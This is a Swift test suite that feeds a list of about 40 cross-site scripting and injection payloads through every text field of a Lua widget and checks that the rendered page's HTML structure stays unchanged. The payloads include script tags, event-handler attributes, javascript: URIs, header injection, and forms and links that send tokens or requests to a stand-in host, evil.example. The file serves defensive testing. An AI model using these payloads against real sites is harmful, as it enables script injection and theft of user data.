import Foundation
import Testing
import WidgetTesting

/// A widget's texts never change the page's structure.
@Suite struct InjectionTests {
  private static let payloads: [String] = [
    "<script>alert(1)</script>", "</article><script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"", "</textarea><script>", "</style><script>alert(1)</script>", "</title><script>", "<!--",
    "-->",
    "<![CDATA[", "]]>", "<iframe srcdoc='<script>alert(1)</script>'>", "<svg onload=alert(1)>", "<math><mtext></form><form>",
    "<form action=//evil.example><input name=token>", "</form><form id=actions action=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example>", "<object data=x>",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "\\u003cscript\\u003e", "&lt;script&gt;", "&#60;script&#62;",
    "\u{2028}alert(1)\u{2029}", "\n\nevent: card\ndata: {}\n\n", "\r\nSet-Cookie: a=b", "\u{202E}tpircs", "\u{FEFF}<script>",
    "+ADw-script+AD4-",
    "<button formaction=//evil.example form=actions>", "<a href=\"/logout\" ping=//evil.example>",
    "<template shadowrootmode=open><slot>",
    "url(//evil.example)", "}*{background:url(//evil.example)}", "expression(alert(1))",
  ]

  private func widget(_ text: String) -> String {
    // Every byte as an escape: the text reaches all fields unchanged.
    let lua =
      "\"" + text.utf8.map { "\\" + String(repeating: "0", count: max(0, 3 - String($0).count)) + String($0) }.joined() + "\""
    return """
      widget { name = \(lua), settings = { a = { type = "string", default = \(lua), label = \(lua), description = \(lua) } } }
      local s = \(lua)
      function content()
        print(s)
        return ui.vstack {
          ui.text { s }, ui.text { s, accessibility = s, id = s }, ui.label { s, icon = "star" },
          ui.button { s, action = function() end, id = s .. "b" }, ui.toggle { s, on = true, action = function() end },
          ui.hstack { ui.text { s }, on_tap = function() end, accessibility = s },
          ui.progress { value = 0.5, accessibility = s },
          ui.text_field { label = s, placeholder = s, value = s, id = s .. "f", on_submit = function() end },
          ui.text_field { label = s, value = s, lines = 3, on_change = function() end },
          ui.picker { label = s, choices = { s, s .. "2" }, selected = s, on_change = function() end },
          ui.picker { choices = { s, s .. "2" }, selected = s, style = "segments", on_change = function() end },
          ui.slider { label = s, value = 0.5, on_change = function() end },
          ui.date_field { label = s, value = 0, id = s .. "d", style = "date_time", on_change = function() end },
          ui.chart { type = "bar", labels = { s }, series = { { name = s, values = { 1 } } } },
        }
      end
      """
  }

  /// The names of all elements and attributes in order.
  private func structure(_ html: String) -> [String] {
    html.matches(of: /<(\/?[a-z0-9]+)((?:\s[^<>]*)?)>/).flatMap { match -> [String] in
      [String(match.1)] + match.2.matches(of: /([a-z-]+)(?:="[^"]*")?/).map { String($0.1) }.filter { $0 != "hidden" }
    }
  }

  @Test("40 injection attempts through every text field leave the page as it is")
  func injections() async throws {
    #expect(Self.payloads.count >= 40)
    try await withServer(["w.lua": widget("harmless")], isDeveloper: true) { server in
      let browser = try await server.browser()
      #expect(try await browser.shows("harmless"))
      func text() async throws -> String {
        let page = try await browser.get().text
        return String(page[..<(page.range(of: "<aside")?.lowerBound ?? page.endIndex)])
      }
      // A running update's mark isn't part of the structure.
      #expect(try await eventually { !(try await text().contains("busy-dot")) })
      let harmless = structure(try await text())
      #expect(harmless.count > 200)
      for (index, payload) in Self.payloads.enumerated() {
        try server.write(widget("mark\(index) " + payload), to: "w.lua")
        #expect(try await browser.shows("mark\(index) "), "\(payload.debugDescription)")
        #expect(try await eventually { structure(try await text()) == harmless }, "\(payload.debugDescription)")
        let page = try await text()
        #expect(!page.contains("href=\"javascript") && !page.lowercased().contains("<script>"))
        let console = try await browser.get().text
        #expect(console.matches(of: #/<script /#).count == 1)
      }
      let settings = try await browser.get("/settings?widget=w").text
      #expect(!settings.contains("expression(alert(1))<") || settings.contains("set.a"))
    }
  }
}
